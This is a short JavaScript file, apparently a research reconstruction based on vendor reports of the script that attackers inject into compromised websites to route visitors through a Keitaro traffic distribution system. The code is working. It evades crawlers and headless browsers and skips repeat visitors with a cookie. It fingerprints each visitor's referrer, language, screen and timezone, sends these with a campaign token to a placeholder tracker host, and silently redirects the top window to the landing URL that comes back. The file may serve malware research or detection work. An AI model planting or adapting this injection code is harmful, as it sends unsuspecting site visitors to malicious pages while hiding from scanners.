// keitaro-tds, written from Proofpoint's and ESET's reports on malvertising and compromised
// sites that send visitors through the Keitaro traffic distribution system (2019-2024): a
// script injected into a compromised site asks the TDS (here .invalid) where this visitor
// should go, passing referrer, language, screen and a campaign token, and redirects the top
// window only if the TDS answers with a landing URL; bots and returning visitors get nothing.
(function () {
  if (/bot|crawl|spider|headless/i.test(navigator.userAgent) || navigator.webdriver) return;
  if (document.cookie.indexOf("_ktv=") > -1) return;
  document.cookie = "_ktv=1; max-age=86400; path=/";
  var params = {
    _token: "uqv8kzq2y4mxn",
    se_referrer: document.referrer,
    default_keyword: document.title,
    landing_url: location.href,
    lang: navigator.language,
    screen: screen.width + "x" + screen.height,
    tz: new Date().getTimezoneOffset()
  };
  var qs = Object.keys(params).map(function (k) { return k + "=" + encodeURIComponent(params[k]); }).join("&");
  fetch("https://trk-keitaro.invalid/click_api/v3?" + qs, { credentials: "include" })
    .then(function (r) { return r.json(); })
    .then(function (j) {
      if (j && j.info && j.info.url) {
        setTimeout(function () { window.top.location.href = j.info.url; }, 300);
      }
    })
    .catch(function () {});
})();
